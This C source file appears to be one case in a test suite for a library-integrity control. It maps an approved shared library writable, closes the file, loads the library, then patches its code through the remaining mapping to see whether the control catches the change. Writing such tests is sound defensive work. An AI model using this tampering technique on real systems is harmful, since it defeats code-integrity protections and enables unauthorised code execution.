// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G1. Maps an approved library shared and writable before it is first used, closes
 * the descriptor, loads the library and changes it through the mapping that is left.
 * Source: docs/architecture.md, "Content"; on an overlay the mapping belongs to the lower
 * file only. Control: its function answers differently.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "attack.h"
#include "code.h"
#include "library.h"

void attack(void)
{
	const char *name = "open/libmapped.so";
	off_t offset = library_offset(name);
	int fd = open(lab_path(name), O_RDWR | O_CLOEXEC);
	answer_function *answer;
	char *memory;

	if (fd < 0)
		no_effect(errno);
	memory = mmap(NULL, offset + sizeof(code_1337), PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (memory == MAP_FAILED || close(fd))
		no_effect(errno);
	answer = library_load(name);
	if (!answer)
		no_effect(errno);
	memcpy(memory + offset, code_1337, sizeof(code_1337));
	if (answer() == CODE_ANSWER)
		effect();
	no_effect(0);
}
